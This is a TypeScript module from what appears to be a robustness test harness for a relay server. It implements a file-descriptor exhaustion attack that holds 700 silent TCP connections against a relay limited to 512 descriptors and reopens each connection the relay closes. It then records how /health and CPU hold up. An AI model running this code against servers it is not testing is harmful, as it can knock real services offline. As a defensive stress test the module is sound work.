// Descriptor exhaustion without a key: silent TCP connections, more than the
// relay's descriptor limit (the driver runs it under prlimit --nofile=512), each reopened as
// soon as the relay closes it. Past the limit Bun's accept loop spins on EMFILE
// (oven-sh/bun#32705); what matters is /health and the relay's CPU meanwhile.
import { connect, type Socket } from "node:net";
import type { Attack } from "./attack.ts";

const NOFILE = 512;
const HELD = 700;

export const fdExhaust: Attack = {
  name: "fd-exhaust",
  what: `${HELD} silent TCP connections held (each reopened when closed) against a relay under prlimit --nofile=${NOFILE}`,
  nofile: NOFILE,
  async run(ctx) {
    const { hostname, port } = new URL(ctx.url);
    const open = new Set<Socket>();
    let opened = 0;
    let closedByRelay = 0;
    const one = () => {
      if (ctx.signal.aborted) return;
      const s = connect({ host: hostname, port: Number(port) });
      opened++;
      open.add(s);
      s.on("data", () => {}); // read, so the relay's close is seen
      s.on("error", () => {});
      s.on("close", () => {
        open.delete(s);
        if (ctx.signal.aborted) return;
        closedByRelay++;
        setTimeout(one, 10);
      });
    };
    for (let i = 0; i < HELD; i++) one();
    await new Promise<void>((r) => ctx.signal.addEventListener("abort", () => r(), { once: true }));
    for (const s of open) s.destroy();
    ctx.note(`${opened} connections opened, ${closedByRelay} closed by the relay during the attack`);
  },
};
